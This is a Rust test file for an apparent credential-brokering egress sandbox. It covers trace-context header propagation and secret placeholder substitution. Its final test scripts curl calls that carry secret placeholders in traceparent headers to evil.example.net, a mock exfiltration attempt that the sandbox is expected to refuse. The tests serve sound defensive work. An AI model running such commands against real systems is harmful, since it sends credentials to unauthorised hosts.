//! A call is a span of its client's trace: W3C Trace Context is honoured, passed on, and made up by nobody.

use std::fs;

use crate::credentials::SECRET;
use crate::harness::{Exeat, Upstream};

const ID: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
const PARENT: &str = "00f067aa0ba902b7";

#[test]
fn what_goes_upstream_names_the_call_as_its_parent_in_the_clients_trace() {
    for version in ["--http1.1", "--http2"] {
        let upstream = Upstream::start();
        let exeat = Exeat::new().allow("api.example.com", &upstream);
        let script = format!(
            "curl -sSf {version} -H 'traceparent: 00-{ID}-{PARENT}-01' -H 'tracestate: a=1,b=2' https://api.example.com/echo
             curl -sS {version} -H 'traceparent: 00-{ID}-{PARENT}-01' https://www.example.com/"
        );
        let run = exeat.sh(&script).ok();
        let trace = run.log.calls()[0].trace.clone().unwrap();
        assert_eq!((trace.trace_id.as_str(), trace.parent.as_str()), (ID, PARENT));
        let seen = &upstream.seen()[0];
        assert_eq!(seen.header("traceparent"), Some(&*format!("00-{ID}-{}-01", trace.span_id)));
        assert_eq!(seen.header("tracestate"), Some("a=1,b=2"));
        let refused = run.log.refusals()[0].trace.clone().unwrap();
        assert_eq!((refused.trace_id.as_str(), refused.parent.as_str()), (ID, PARENT));
        assert_ne!(refused.span_id, trace.span_id);
    }
}

#[test]
fn what_has_no_single_reading_is_left_out_and_none_is_made_up() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().allow("api.example.com", &upstream);
    let good = format!("traceparent: 00-{ID}-{PARENT}-01");
    let heads = [
        vec!["traceparent: 00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01".to_owned()],
        vec!["traceparent: ghost".to_owned()],
        vec![good.clone(), good.clone()],
        vec![good.clone(), "Connection: traceparent".to_owned()],
        vec![],
    ];
    for head in &heads {
        let fields: String = head.iter().map(|field| format!("-H '{field}' ")).collect();
        exeat.sh(&format!("curl -sSf --http1.1 {fields} -H 'tracestate: a=1' https://api.example.com/echo")).ok();
    }
    let (log, seen) = (exeat.log(), upstream.seen());
    assert_eq!((log.calls().len(), seen.len()), (heads.len(), heads.len()));
    for (call, seen) in log.calls().iter().zip(&seen) {
        assert_eq!(call.trace, None, "{call:?}");
        assert_eq!((seen.header("traceparent"), seen.header("tracestate")), (None, None), "{seen:?}");
    }
}

/// The placeholders are of the shapes of a trace's id, and of an id with a span.
fn exeat_with_placeholders(upstream: &Upstream) -> Exeat {
    let grant = |shape: &str, name: &str| {
        format!("to = [\"api.example.com\"]\nin = [\"header\"]\nenv = \"{name}\"\nshape = \"{shape}\"\n")
    };
    Exeat::new()
        .fixed("trace", SECRET, &grant("[0-9a-f]{32}", "ID"))
        .fixed("span", "another-secret", &grant("[0-9a-f]{32}-[0-9a-f]{16}", "SPAN"))
        .allow_with("api.example.com", upstream, "credential = \"trace\"")
        .allow("www.example.com", upstream)
}

#[test]
fn a_placeholder_is_no_trace_and_is_swapped_as_in_any_field() {
    for version in ["--http1.1", "--http2"] {
        let upstream = Upstream::start();
        let exeat = exeat_with_placeholders(&upstream);
        let script = format!(
            "echo $ID >placeholder
             curl -sSf {version} -H \"traceparent: 00-$ID-{PARENT}-01\" https://api.example.com/echo >first
             curl -sSf {version} -H 'traceparent: 00-{ID}-{PARENT}-01' -H \"tracestate: a=$ID\" \
                 https://api.example.com/echo >second"
        );
        let run = exeat.sh(&script).ok();
        let (calls, seen) = (run.log.calls(), upstream.seen());
        assert_eq!((calls.len(), seen.len()), (2, 2), "{run:#?}");
        assert_eq!(seen[0].header("traceparent"), Some(&*format!("00-{SECRET}-{PARENT}-01")));
        assert_eq!(seen[1].header("traceparent"), Some(&*format!("00-{ID}-{PARENT}-01")));
        assert_eq!(seen[1].header("tracestate"), Some(&*format!("a={SECRET}")));
        for call in calls {
            assert_eq!((&call.trace, call.credential.is_some()), (&None, true), "{call:?}");
        }
        let placeholder = fs::read_to_string(exeat.work().join("placeholder")).unwrap();
        assert!(!run.log.text.contains(placeholder.trim()) && !run.log.text.contains(SECRET), "{}", run.log.text);
    }
}

#[test]
fn a_placeholder_that_is_misdirected_in_a_trace_is_refused_and_not_in_the_log() {
    let upstream = Upstream::start();
    let exeat = exeat_with_placeholders(&upstream);
    let script = format!(
        "echo $ID >placeholder; echo $SPAN >span
         for trace in $ID-{PARENT} $SPAN; do
             for host in www.example.com evil.example.net; do
                 curl -sS -H \"traceparent: 00-$trace-01\" https://$host/echo
             done
         done"
    );
    let run = exeat.sh(&script).ok();
    assert_eq!(run.log.refused_kinds().len(), 4, "{run:#?}");
    for refused in run.log.refusals() {
        assert_eq!((refused.alert, &refused.trace), (true, &None), "{refused:?}");
    }
    let placeholder = fs::read_to_string(exeat.work().join("placeholder")).unwrap();
    let span = fs::read_to_string(exeat.work().join("span")).unwrap();
    for part in span.trim().split('-').chain([placeholder.trim()]) {
        assert!(!run.log.text.contains(part), "{}", run.log.text);
    }
    upstream.assert_no_request();
}
